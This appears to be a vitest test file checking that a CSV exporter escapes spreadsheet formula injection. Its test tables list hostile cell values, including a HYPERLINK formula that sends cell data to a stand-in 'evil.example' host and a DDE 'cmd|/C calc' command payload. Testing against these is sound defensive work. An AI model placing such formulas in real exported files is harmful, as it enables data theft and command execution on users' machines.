import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvCell, csvText } from '../../../src/activity-page/csv.ts';
import { keptItem, runEntry } from './entries.ts';

/** A reader as RFC 4180 describes the format. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let row: string[] = [];
  for (let match = cell.exec(text); match !== null; match = cell.exec(text)) {
    const [, quoted, plain = '', end] = match;
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  expect(rows.flat().length).toBeGreaterThan(0);
  return rows;
}

describe('CSV', () => {
  test('gives back what went in but for apostrophes, whatever stands in it', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        const [[read = ''] = []] = readCsv(`${csvCell(text)},\r\n`);
        expect(read.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
      }),
    );
  });

  test.each([
    '=HYPERLINK("https://evil.example?"&A1)',
    '+1',
    '-1+cmd',
    '@SUM(A1)',
    '\t1',
    '\r1',
    ' =1',
    '|calc',
    '%0A',
  ])('makes no formula of %j', (text) => {
    expect(readCsv(`${csvCell(text)},\r\n`)[0]?.[0]).toBe(`'${text}`);
  });

  test.each([
    "a;=cmd|'/C calc'!A0",
    'a; =1',
    'a;"=1;b',
    ';;=1;=2',
    '\t=1',
    'a\t=1',
    'a\n=1',
    '\r\n=1',
    'a;\n\t =1',
  ])('makes no formula of %j where it is split at another sign', (text) => {
    // Cells before and after it have quotes of their own, or none.
    for (const row of [csvCell(text), `x,${csvCell(text)},"y"`, `"x",${csvCell(text)}`]) {
      const parts = row.split(/[;\t\r\n]/).map((part) => part.replace(/^["\s]+/, ''));
      expect(parts.filter((part) => part.startsWith('='))).toEqual([]);
    }
    const [[read = ''] = []] = readCsv(`${csvCell(text)},\r\n`);
    expect(read.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  });

  test('has one row an item, of as many cells as there are columns', () => {
    const runs = new Map([['run-1', runEntry({ startedAt: 0 })]]);
    const hostile = '=1+1,"x"\r\n';
    const items = [
      keptItem({ at: 0, times: { tracker: 5, content: 6, waiting: 7 } }),
      keptItem({
        runId: 'gone',
        text: hostile,
        issueKey: null,
        changes: [{ field: 'f', from: { a: 1 }, to: hostile }],
      }),
    ];
    const text = csvText(items, runs, true);
    expect(text.startsWith('\u{FEFF}')).toBe(true);
    const [head = [], first = [], second = []] = readCsv(text.slice(1));
    expect(new Set([head.length, first.length, second.length])).toEqual(new Set([head.length]));
    const cell = (row: string[], name: string) => row[head.indexOf(name)];
    expect(cell(first, 'time')).toBe('1970-01-01T00:00:00.000Z');
    expect(cell(first, 'run_started')).toBe('1970-01-01T00:00:00.000Z');
    expect(cell(first, 'changes')).toBe('6063--lesson: Old name → Циклы');
    expect(cell(first, 'ms_waiting')).toBe('7');
    expect(cell(second, 'item')).toBe(`'${hostile}`);
    expect(cell(second, 'changes')).toBe(`f: {"a":1} → ${hostile}`);
    expect(cell(second, 'run_started')).toBe('');
  });
});
